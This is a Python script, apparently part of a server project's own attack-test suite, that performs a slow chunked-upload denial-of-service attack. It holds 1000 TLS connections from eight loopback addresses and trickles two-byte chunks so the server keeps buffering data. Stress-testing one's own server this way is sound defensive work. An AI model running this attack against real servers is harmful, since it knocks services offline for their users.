"""Writes of share data in chunks of two bytes, each of which is held until there are enough for a disk."""

from __future__ import annotations

import os
import socket

from misc.attack.target import Crowd, Target, again_and_again, from_command_line

CONNECTIONS = 1000
HELD_BYTES = 120 * 1024
"""A little less than what is written at once (``server.gbs.body_receivers``)."""


def attack(target: Target) -> None:
    """Keep as many connections as there may be, from eight addresses, all in the middle of a share."""
    requests = target.requests
    chunks = b"2\r\nxx\r\n" * (HELD_BYTES // 2)

    def make(number: int) -> socket.socket:
        connection = target.connect_tls(f"127.0.0.{2 + number % 8}")
        index = os.urandom(16)
        write = requests.write(index, 0, bytes(2 * HELD_BYTES))
        head, _, _ = write.partition(b"\r\n\r\n")
        length = b"Content-Length: %d" % (2 * HELD_BYTES)
        head = head.replace(length, b"Transfer-Encoding: chunked") + b"\r\n\r\n"
        connection.sendall(requests.allocate(index, 2 * HELD_BYTES) + head + chunks)
        return connection

    crowd = Crowd(make, CONNECTIONS)
    for _ in again_and_again(target):
        crowd.fill()
        crowd.say(b"1\r\nx\r\n", 5.0)


if __name__ == "__main__":
    attack(from_command_line(__doc__))
